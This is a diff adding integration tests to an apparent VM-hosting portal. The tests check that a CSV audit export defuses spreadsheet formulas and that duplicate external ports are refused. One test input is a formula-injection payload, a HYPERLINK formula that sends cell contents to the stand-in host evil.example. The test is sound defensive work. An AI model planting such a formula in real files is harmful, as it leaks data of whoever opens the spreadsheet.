@@ -5,6 +5,7 @@
  * in a tenant's log.
  */
 import net from "node:net";
+import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { getDb } from "../../lib/server/db/db";
 import { anonymous, getObject, paths, portalUrl, signIn, uniqueName, type PortalClient } from "./helpers";
@@ -142,5 +143,36 @@ describe("11. security headers", () => {
     expect(res.headers.get("x-frame-options")).toBe("DENY");
     expect(res.headers.get("x-content-type-options")).toBe("nosniff");
     expect(res.headers.get("referrer-policy")).toBe("same-origin");
+  });
+});
+
+describe("10. CSV export: no cell a spreadsheet would run", () => {
+  it("exports a formula-looking name as text ('=…), the JSON export unchanged", async () => {
+    const admin = await signIn("admin", "admin-password");
+    const formula = `=HYPERLINK("http://evil.example/?"&A1,"x")-${uniqueName("f")}`;
+    // an invalid VM name: refused with 422, and the attempt (with its name) is audited
+    expect((await alice.call("POST", "/api/tenants/acme/vms", { name: formula })).status).toBe(422);
+    const res = await fetch(`${portalUrl}/api/audit/export?format=csv&tenant=acme&actor=alice&action=vm.create`, { headers: { cookie: admin.cookie } });
+    expect(res.status).toBe(200);
+    const records = parse(await res.text(), { columns: true }) as Record<string, string>[];
+    const cells = records.flatMap((r) => Object.values(r));
+    expect(cells).toContain(`'${formula}`);
+    expect(cells.some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
+    const json = (await (await fetch(`${portalUrl}/api/audit/export?format=json&tenant=acme&actor=alice&action=vm.create`, { headers: { cookie: admin.cookie } })).json()) as { targetName: string }[];
+    expect(json.map((r) => r.targetName)).toContain(formula);
+  });
+});
+
+describe("12. duplicate external ports", () => {
+  it("refuses externalPorts [22, 22] with 422 on the field and creates nothing", async () => {
+    const name = uniqueName("dup");
+    const res = await alice.call("POST", "/api/tenants/acme/vms", {
+      name, instanceType: "u1.medium", instanceProfile: "ubuntu",
+      rootDisk: { source: { type: "image", name: "ubuntu" } }, external: true, externalPorts: [22, 22],
+    });
+    expect(res.status, JSON.stringify(res.body)).toBe(422);
+    expect(res.body.error.field).toMatch(/^externalPorts/);
+    expect(await getObject(paths.vmInstance(ns, name))).toBeNull();
+    expect(await getObject(paths.vmDisk(ns, `${name}-os`))).toBeNull();
   });
 });
